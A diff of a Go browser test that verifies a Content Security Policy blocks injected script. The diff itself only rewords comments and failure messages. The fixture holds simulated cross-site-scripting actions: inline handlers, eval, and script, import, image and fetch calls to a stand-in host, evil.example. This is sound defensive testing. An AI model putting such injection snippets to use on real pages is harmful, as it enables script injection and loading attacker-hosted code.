@@ -8,8 +8,8 @@ import (
 	"github.com/chromedp/chromedp"
 )
 
-// forbiddenActions is a script of an attacker who got it into the page. The browser must refuse
-// all of it, and `refused` has the rules of the policy that did.
+// forbiddenActions is a script as an attacker might inject it into the page. The browser must
+// refuse all its actions. `refused` collects the policy directives that refused one.
 const forbiddenActions = `
 window.refused = new Set();
 document.addEventListener('securitypolicyviolation', (e) => refused.add(e.effectiveDirective));
@@ -18,7 +18,7 @@ attempt(() => { const s = document.createElement('script'); s.textContent = 'win
 attempt(() => { document.body.innerHTML += '<b onclick="window.hacked = 1">x</b>'; });
 attempt(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); });
 attempt(() => { import('https://evil.example/x.js').catch(() => {}); });
-setTimeout(() => attempt(() => eval('window.hacked = 1'))); // by itself: a debugger may
+setTimeout(() => attempt(() => eval('window.hacked = 1'))); // in a timer, because code of the debugger may use eval
 attempt(() => document.body.setAttribute('style', 'color: red'));
 attempt(() => { new Image().src = 'https://evil.example/x.png'; });
 attempt(() => { fetch('https://evil.example/').catch(() => {}); });
@@ -44,7 +44,7 @@ func (b browser) checkForbiddenActions(url string) {
 	}
 	var refused string
 	want := []string{"script-src", "style-src", "img-src", "connect-src", "frame-src", "base-uri", "require-trusted-types-for"}
-	waitUntil(b.T, "every trespass is refused", func() bool {
+	waitUntil(b.T, "every forbidden action is refused", func() bool {
 		var err error
 		if refused, err = chromedp.Run(ctx, chromedp.Evaluate[string](`[...refused].join(' ') + (window.hacked ?? '')`)); err != nil {
 			b.Fatal(err)
@@ -56,7 +56,7 @@ func (b browser) checkForbiddenActions(url string) {
 	}
 	for m, err := range messages {
 		if err != nil {
-			b.Fatalf("the console says nothing of it: %v", err)
+			b.Fatalf("the console has no message about the policy: %v", err)
 		}
 		if m.Type == chromedp.ConsoleError && strings.Contains(m.Text, "Content Security Policy") {
 			return
